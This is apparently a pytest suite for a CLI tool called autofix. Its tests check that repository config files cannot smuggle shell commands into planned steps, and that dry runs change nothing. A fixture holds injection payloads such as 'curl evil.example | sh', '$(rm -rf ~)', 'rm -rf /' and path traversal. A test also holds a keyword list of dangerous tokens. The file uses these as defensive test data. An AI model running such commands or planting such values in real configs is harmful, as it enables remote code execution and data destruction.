"""Scenario tests for edge cases and determinism."""

import json

import pytest
from click.testing import CliRunner

from autofix.cli import cli
from autofix.config import AutofixConfig, load_config
from autofix.coordinator import AutofixCoordinator, ensure_autofix_in_gitignore
from autofix.detect import detect_environment
from autofix.plan import build_plan
from autofix.types import RunFlags, RunMode, StepStatus

MALICIOUS_CONFIG = """\
node:
  package_manager: "npm; curl evil.example | sh"
  caches:
    directories:
      - ".turbo"
      - "../../etc"
      - "$(rm -rf ~)"
python:
  venv_path: ".venv"
  install:
    prefer: "uv && reboot"
  tools:
    lint:
      - "ruff check ."
      - "ruff check . && curl evil.example | sh"
      - "bash -c id"
    test:
      - "pytest -q\\nrm -rf /"
"""


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


def all_commands(steps):
    return [cmd for s in steps for cmd in s.commands]


class TestMaliciousConfiguration:
    """Repository-supplied config never reaches a shell unsanitized."""

    def test_unsafe_entries_dropped_individually(self, project):
        (project / ".autofix.yml").write_text(MALICIOUS_CONFIG)

        config = load_config(project).config

        assert config.node.package_manager == "auto"
        assert config.python.install.prefer == "auto"
        assert config.node.caches.directories == [".turbo"]
        assert config.python.tools.lint == ["ruff check ."]
        assert config.python.tools.test == []

    def test_plan_contains_no_injected_text(self, project):
        (project / ".autofix.yml").write_text(MALICIOUS_CONFIG)
        (project / "package.json").write_text(json.dumps({"scripts": {"lint": "eslint ."}}))
        (project / "requirements.txt").write_text("click\n")

        result = CliRunner().invoke(cli, ["plan", "--json", "--deep", "--force-fresh"])

        assert result.exit_code == 0, result.output
        commands = [c for s in json.loads(result.output)["steps"] for c in s["commands"]]
        assert commands
        for needle in ("curl", "reboot", "../", "$(", "bash -c"):
            assert not any(needle in c for c in commands), needle

    def test_malicious_venv_path_yields_no_python_commands(self, project):
        (project / ".autofix.yml").write_text('python:\n  venv_path: ".venv`id`"\n')
        (project / "pyproject.toml").write_text("[project]\nname = 'x'\n")
        config = load_config(project).config

        steps = build_plan(project, detect_environment(project, config), config, RunFlags(deep=True))

        python_steps = [s for s in steps if s.subsystem.value == "python"]
        assert [s.id for s in python_steps] == ["python-venv-path-rejected"]
        assert python_steps[0].status == StepStatus.PROPOSED
        assert python_steps[0].commands == []


class TestDryRunInvariant:
    """Dry runs leave the project byte-for-byte untouched."""

    @pytest.mark.asyncio
    @pytest.mark.parametrize(
        "mode,flags",
        [
            (RunMode.PLAN, RunFlags(dry_run=True, deep=True, approve=True, force_fresh=True)),
            (RunMode.DOCTOR, RunFlags(deep=True, approve=True)),
            (RunMode.RUN, RunFlags(dry_run=True, deep=True, approve=True, kill_ports=[])),
        ],
    )
    async def test_nothing_changes(self, tmp_path, mode, flags):
        (tmp_path / "package.json").write_text(json.dumps({"dependencies": {"next": "14"}}))
        (tmp_path / "package-lock.json").write_text("{}")
        (tmp_path / "node_modules" / "dep").mkdir(parents=True)
        (tmp_path / ".next").mkdir()
        (tmp_path / ".env.example").write_text("A=1\n")
        (tmp_path / ".env").write_text("B=2\n")
        before = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*"))
        config = AutofixConfig()
        config.telemetry.enabled = False

        report = await AutofixCoordinator(tmp_path, config, flags=flags, mode=mode).run_once()

        after = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*"))
        assert after == before
        assert (tmp_path / ".env").read_text() == "B=2\n"
        assert all(s.status in (StepStatus.PLANNED, StepStatus.PROPOSED) for s in report.steps)
        assert all(s.output == "" for s in report.steps)


class TestDeterminism:
    """Same inputs produce the same plan."""

    def test_plan_is_stable(self, tmp_path):
        (tmp_path / "package.json").write_text(json.dumps({"scripts": {"test": "vitest"}}))
        (tmp_path / "requirements.txt").write_text("click\n")
        (tmp_path / "compose.yml").write_text("services: {}\n")
        config = AutofixConfig()
        detection = detect_environment(tmp_path, config)

        plans = [
            [s.id for s in build_plan(tmp_path, detection, config, RunFlags(deep=True))]
            for _ in range(5)
        ]

        assert all(p == plans[0] for p in plans)
        assert len(plans[0]) == len(set(plans[0]))


class TestSpecialPaths:
    """Paths with spaces and quotes stay single shell words."""

    def test_env_copy_in_awkward_directory(self, tmp_path, monkeypatch):
        weird = tmp_path / "it's a dir"
        weird.mkdir()
        monkeypatch.chdir(weird)
        (weird / ".env.example").write_text("TOKEN=\n")

        result = CliRunner().invoke(cli, ["run", "--quiet"])

        assert result.exit_code == 0, result.output
        assert (weird / ".env").read_text() == "TOKEN=\n"
        assert "1 succeeded, 0 failed" in result.output


class TestGitignore:
    """Reports and snapshots are kept out of version control."""

    def test_entry_added_once(self, tmp_path):
        (tmp_path / ".git").mkdir()
        (tmp_path / ".gitignore").write_text("node_modules/")
        sub = tmp_path / "app"
        sub.mkdir()

        assert ensure_autofix_in_gitignore(sub) is True
        assert ensure_autofix_in_gitignore(sub) is False
        assert (tmp_path / ".gitignore").read_text() == "node_modules/\n.autofix/\n"

    def test_outside_git_is_noop(self, tmp_path):
        assert ensure_autofix_in_gitignore(tmp_path) is False
        assert not (tmp_path / ".gitignore").exists()
